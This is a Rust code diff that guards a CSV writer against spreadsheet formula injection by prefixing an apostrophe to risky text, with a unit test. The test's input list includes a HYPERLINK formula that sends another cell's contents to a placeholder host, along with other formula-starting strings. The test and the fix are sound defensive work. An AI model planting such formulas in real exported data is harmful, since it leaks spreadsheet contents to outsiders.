@@ -2,9 +2,10 @@
 
 use crate::{Cell, Column, Rows};
 use csv::Writer;
+use std::borrow::Cow;
 use std::io::{self, Write};
 
-/// Writes a table as CSV. Numbers are as short as they can be and still be read back to the last bit.
+/// Writes a table as CSV. Numbers are as short as they can be and still be read back to the last bit. Names and texts are [`harmless`].
 ///
 /// # Errors
 /// When `out` cannot be written to, or `rows` fails.
@@ -14,13 +15,17 @@ pub fn write_csv(
     out: &mut dyn Write,
 ) -> io::Result<()> {
     let mut writer = Writer::from_writer(out);
-    writer.write_record(columns.iter().map(|column| column.name.as_ref()))?;
+    writer.write_record(
+        columns
+            .iter()
+            .map(|column| harmless(&column.name).into_owned()),
+    )?;
     rows(&mut |row| {
         debug_assert_eq!(row.len(), columns.len());
         for cell in row {
             match cell {
                 Cell::Unknown => writer.write_field("")?,
-                Cell::Text(text) => writer.write_field(text.as_ref())?,
+                Cell::Text(text) => writer.write_field(harmless(text).as_ref())?,
                 Cell::Integer(number) => writer.write_field(number.to_string())?,
                 Cell::Number(number) if number.is_finite() => {
                     writer.write_field(number.to_string())?;
@@ -33,4 +38,57 @@ pub fn write_csv(
         Ok(())
     })?;
     writer.flush()
+}
+
+/// A text that no spreadsheet takes for a formula: with an apostrophe before it where it begins as one
+/// (<https://owasp.org/www-community/attacks/CSV_Injection>). Formulas can send what else is in the sheet to strangers.
+#[must_use]
+pub fn harmless(text: &str) -> Cow<'_, str> {
+    const BEGIN_FORMULAS: [char; 11] =
+        ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];
+    if text.starts_with(BEGIN_FORMULAS) {
+        return Cow::Owned(format!("'{text}"));
+    }
+    Cow::Borrowed(text)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::Kind;
+
+    #[test]
+    fn no_text_is_a_formula() {
+        let hostile = [
+            "=HYPERLINK(\"http://h/?\"&A1)",
+            "+1",
+            "-2+3",
+            "@SUM(A1)",
+            "\t=1",
+            "\r=1",
+            "\n=1",
+            "＝1",
+        ];
+        let columns = [
+            Column::new("=name", Kind::Text),
+            Column::new("number", Kind::Number),
+        ];
+        let mut out = Vec::new();
+        let rows = |take: &mut Rows<'_>| {
+            for text in hostile.into_iter().chain(["a=b", "", "ext4"]) {
+                take(&[text.into(), (-1.5).into()])?;
+            }
+            Ok(())
+        };
+        write_csv(&columns, rows, &mut out).unwrap();
+        let mut reader = csv::Reader::from_reader(out.as_slice());
+        assert_eq!(&reader.headers().unwrap()[0], "'=name");
+        let read: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
+        for (record, text) in read.iter().zip(hostile) {
+            assert_eq!(record[0], format!("'{text}"));
+            assert_eq!(&record[1], "-1.5", "numbers stay numbers");
+        }
+        let harmless: Vec<&str> = read[hostile.len()..].iter().map(|row| &row[0]).collect();
+        assert_eq!(harmless, ["a=b", "", "ext4"]);
+    }
 }
